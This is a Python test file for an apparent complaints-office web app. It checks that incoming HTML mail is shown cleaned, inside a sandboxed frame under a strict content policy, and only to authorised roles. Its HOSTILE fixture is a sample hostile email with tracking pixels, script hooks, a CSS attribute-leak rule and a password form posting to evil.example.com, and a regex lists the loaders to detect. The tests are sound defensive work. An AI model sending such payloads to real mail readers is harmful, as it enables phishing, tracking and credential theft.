"""A mail is shown as it was laid out, cleaned, in a frame without network (security.md 7, rows 68 and 69)."""

import re

import pytest
from sqlalchemy import select

from tests.builders.arrivals import text_of, told
from tests.builders.heard import complaints
from tests.builders.mails import OFFICE, TEXT, a_mail
from vigilance.arrivals.models import ArrivedMessage, Outcome
from vigilance.audit.models import ReadMark
from vigilance.domain.case_address import case_address
from vigilance.domain.roles import Role
from vigilance.records.models import Record, Tier

HOSTILE = f"""<html><head><meta http-equiv="refresh" content="0;url=http://evil.example.com"><base href="http://evil.example.com/">
<link rel="stylesheet" href="http://evil.example.com/a.css"><style>@import url(http://evil.example.com/b.css);
td[data-a^="x"]{{background:url(http://evil.example.com/leak)}}</style><script>steal()</script></head>
<body background="http://evil.example.com/bg.png" onload="steal()"><p style="color:red">{TEXT}</p>
<table background="http://evil.example.com/t.png"><tr><td><b>राशि</b></td><td>500</td></tr></table>
<img src="http://evil.example.com/pixel.gif" width="1"><img src="cid:one@example.com"><img src="data:image/png;base64,{"A" * 5000}">
<span style="display:none">छिपी बात</span><font color="#ffffff">सफ़ेद बात</font>
<form action="http://evil.example.com/take"><input name="password"><button>आगे</button></form>
<a href="javascript:steal()" ping="http://evil.example.com">यहाँ दबाएँ</a>
<iframe src="http://evil.example.com"></iframe><object data="http://evil.example.com/o"></object>
<svg><use href="http://evil.example.com/s#a"/></svg><video poster="http://evil.example.com/v"></video></body></html>"""
LOADS = re.compile(
    r"<(?:img|script|style|link|base|form|input|button|iframe|object|svg|video|embed)\b|http-equiv|"
    r"\b(?:src|href|action|background|poster|ping|style|srcset|on[a-z]+)\s*=|url\(|cid:|data:|evil",
    re.IGNORECASE,
)


def html_mail(html=HOSTILE, **given):
    mail = a_mail("x", **given).decode()
    return mail.replace("text/plain", "text/html").replace("\n\nx\n", f"\n\n{html}\n").encode()


@pytest.fixture
def held_mail(held_desk, hear_mail):
    """A held mail: a program seems to have written it."""

    def make(raw=None):
        heard = hear_mail(raw or html_mail(Precedence="bulk"))
        assert heard.outcome is Outcome.HELD
        return heard.id

    return make


@pytest.fixture
def registered(session, hear_mail):
    """The complaint of an HTML mail."""
    hear_mail(html_mail())
    (made,) = complaints(session)
    return made


def frame_of(browser, address):
    """The page around the frame, and the frame."""
    page = browser.get(address)
    source = re.search(
        r'<iframe class="mail" src="([^"]+)" sandbox="allow-same-origin" ', text_of(page)
    )[1]
    return page, browser.get(source)


def assert_harmless(page, frame):
    policy = frame.headers["Content-Security-Policy"]
    assert "frame-src 'self'" in page.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; style-src 'self'; font-src 'self'; sandbox ")
    assert "frame-ancestors 'self'" in policy
    assert re.findall(r"allow-[a-z-]+|script|img", policy) == ["allow-same-origin"]
    assert (frame.headers["X-Frame-Options"], frame.headers["Cache-Control"]) == (
        "SAMEORIGIN",
        "no-store",
    )
    body = frame.get_data(as_text=True).partition("<body")[2]
    assert LOADS.findall(body) == []


def test_a_held_mail_is_shown_without_anything_that_runs_fetches_or_hides(
    held_mail, sign_in, session
):
    page, frame = frame_of(sign_in(Role.CLERK), f"/office/held/{held_mail()}/mail")

    assert_harmless(page, frame)
    words = frame.get_data(as_text=True)
    assert "<b>राशि</b>" in words
    assert all(said in words for said in (TEXT, "छिपी बात", "सफ़ेद बात", "यहाँ दबाएँ"))
    assert told(session) == ["read"]


def test_the_text_of_a_held_mail_shows_what_it_hides_and_says_so(held_mail, sign_in):
    address = f"/office/held/{held_mail()}"
    page = text_of(sign_in(Role.CLERK).get(address))

    assert "छिपी बात" in page
    assert "it holds hidden text" in page
    assert f'href="{address}/mail"' in page


def test_a_registered_mail_is_shown_from_its_file_and_the_reading_is_on_the_ledger(
    registered, sign_in, session
):
    cvo = sign_in(Role.CVO)
    address = f"/office/files/{registered.number}/mails/1"
    assert address in text_of(cvo.get(f"/office/complaints/{registered.number}"))

    page, frame = frame_of(cvo, address)

    assert_harmless(page, frame)
    assert TEXT in frame.get_data(as_text=True)
    read = select(ReadMark.what).where(ReadMark.record_id == registered.record_id)
    assert "mail 1" in session.scalars(read).all()


def test_a_mail_added_later_is_the_second_of_its_file(
    registered, hear_mail, sign_in, session, office
):
    own = case_address(OFFICE, registered.reference, office.server_key)
    hear_mail(a_mail("और एक बात", name="two@mail.example.com", to=own))
    added = session.scalars(
        select(ArrivedMessage).where(ArrivedMessage.outcome == Outcome.ATTACHED)
    ).all()
    assert [each.record_id for each in added] == [registered.record_id]

    page, frame = frame_of(sign_in(Role.CVO), f"/office/files/{registered.number}/mails/2")

    assert f"/office/files/{registered.number}/mails/1" in text_of(page)
    assert "This mail is plain text; it has no other layout." in text_of(frame)


def test_what_is_not_there_is_not_found(registered, held_message, sign_in):
    cvo, number = sign_in(Role.CVO), registered.number
    form = held_message()
    absent = [
        f"/office/files/{number}/mails/0",
        f"/office/files/{number}/mails/2",
        f"/office/files/{number}/mails/2/frame",
        f"/office/held/{form}/mail",
        f"/office/held/{form}/mail/frame",
    ]

    assert {cvo.get(address).status_code for address in absent} == {404}


def test_a_protected_mail_is_not_laid_out(registered, sign_in, session):
    session.get(Record, registered.record_id).tier = Tier.PROTECTED
    session.connection().exec_driver_sql("UPDATE record SET tier = 'protected'")
    cvo, address = sign_in(Role.CVO), f"/office/files/{registered.number}/mails/1"

    assert {cvo.get(address).status_code, cvo.get(f"{address}/frame").status_code} == {404}


@pytest.mark.parametrize(
    "role", [Role.VO, Role.INQUIRING_OFFICER, Role.MINISTER, Role.ADMIN, Role.AUDITOR]
)
def test_who_has_no_part_in_it_sees_no_mail(registered, held_mail, sign_in, role):
    held = held_mail(html_mail(Precedence="bulk", name="other@mail.example.com"))
    browser = sign_in(role)
    file, desk = f"/office/files/{registered.number}/mails/1", f"/office/held/{held}/mail"
    addresses = [file, f"{file}/frame", desk, f"{desk}/frame"]

    assert {browser.get(address).status_code for address in addresses} <= {403, 404}


def test_a_mail_that_cannot_be_laid_out_says_so(held_mail, sign_in, monkeypatch):
    from vigilance.arrivals import mail_views
    from vigilance.channels.base import Unreadable

    def too_slow(_raw):
        raise Unreadable("too-slow")

    monkeypatch.setattr(mail_views, "shown_html", too_slow)
    _page, frame = frame_of(sign_in(Role.CLERK), f"/office/held/{held_mail()}/mail")

    assert (frame.status_code, "This mail could not be laid out." in text_of(frame)) == (200, True)
